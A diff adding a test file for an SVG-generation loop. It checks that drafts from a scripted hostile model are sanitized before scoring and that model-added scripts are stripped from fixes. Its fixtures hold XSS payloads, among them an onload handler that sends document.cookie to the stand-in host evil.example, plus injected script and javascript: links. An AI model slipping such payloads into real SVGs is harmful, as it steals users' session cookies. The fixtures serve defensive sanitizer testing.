@@ -1,0 +1,61 @@
+// Model output is untrusted: drafts are sanitized before the critic sees them
+// and before the best-pick compares them, and a fix keeps only the active
+// content the user's file already had. A scripted endpoint plays the hostile
+// (or prompt-injected) model, since a real model cannot be made to on demand.
+import assert from 'node:assert/strict';
+import { refineOnce, runLoop } from '../../src/core/loop';
+import type { Capabilities } from '../../src/core/model/capabilities';
+import { ModelClient } from '../../src/core/model/client';
+import { WorkerPool } from '../../src/core/render/pool';
+import { startFaultServer, type FaultServer } from './faultServer';
+
+const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch('https://evil.example/?c='+document.cookie)"><script>alert(document.domain)</script><a href="javascript:alert(1)"><circle cx="100" cy="100" r="80" fill="#36c"/></a><use href="https://evil.example/sprite.svg#x"/></svg>`;
+const PLAIN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><circle cx="100" cy="100" r="80" fill="#36c"/></svg>';
+const ACTIVE = /<script|onload|javascript:|evil\.example/;
+const TEXT_ONLY: Capabilities = { images: false, jsonSchema: true, svgGrammar: false, multipleChoices: false };
+
+describe('loop: active content in model answers', function () {
+  this.timeout(20_000);
+  let pool: WorkerPool;
+  let server: FaultServer | undefined;
+  before(() => { pool = new WorkerPool({ size: 1 }); });
+  after(() => pool.dispose());
+  afterEach(async () => { await server?.close(); server = undefined; });
+
+  // A critic that would reward active content, if it ever saw any.
+  const verdictFor = (text: string) => JSON.stringify({ score: ACTIVE.test(text) ? 10 : 4, critique: 'ok', suggestions: '1. fine' });
+
+  it('the critic sees, and the best-pick compares, only the sanitized drafts', async () => {
+    server = await startFaultServer((r) => (r.kind === 'generate' ? { text: r.nth === 0 ? HOSTILE : PLAIN } : { text: verdictFor(r.text) }));
+    const result = await runLoop({ prompt: 'a blue ball', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY, candidates: 2, rounds: 1, seed: 1 });
+    const critics = server.requests.filter((r) => r.kind === 'critic-text');
+    assert.equal(critics.length, 2);
+    for (const c of critics) assert.doesNotMatch(c.text, ACTIVE, 'the critic was shown active content');
+    const scores = result.rounds[0].candidates.map((c) => c.score);
+    assert.deepEqual(scores, [4, 4], 'no draft scored higher for its active content');
+    assert.ok(result.svg);
+    assert.doesNotMatch(result.svg, ACTIVE);
+    const hostile = result.rounds[0].candidates.find((c) => c.raw.includes('<script'))!;
+    assert.deepEqual(hostile.removed?.map((r) => r.what), [
+      `onload on <svg>`, '<script>', 'href="javascript:alert(1)" on <a>', 'href="https://evil.example/sprite.svg#x" on <use>',
+    ]);
+    assert.match(hostile.svg!, /<circle cx="100" cy="100" r="80" fill="#36c"\/>/, 'the drawing stays');
+  });
+
+  it('keeps active content when the caller allows it', async () => {
+    server = await startFaultServer((r) => (r.kind === 'generate' ? { text: HOSTILE } : { text: verdictFor(r.text) }));
+    const result = await runLoop({ prompt: 'a blue ball', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY, rounds: 1, allowActiveContent: true });
+    assert.equal(result.svg, HOSTILE);
+    assert.equal(result.removed, undefined);
+  });
+
+  it('a fix keeps the user\'s own external references and removes only what the model added', async () => {
+    const mine = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="4"/></svg>';
+    const fixed = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="6" onclick="steal()"/><script>steal()</script></svg>';
+    server = await startFaultServer(() => ({ text: fixed }));
+    const f = await refineOnce({ svg: mine, prompt: 'a dot', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY });
+    assert.ok(f.ok);
+    assert.equal(f.svg, '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="6"/></svg>');
+    assert.deepEqual(f.removed.map((r) => r.what), ['onclick on <circle>', '<script>']);
+  });
+});
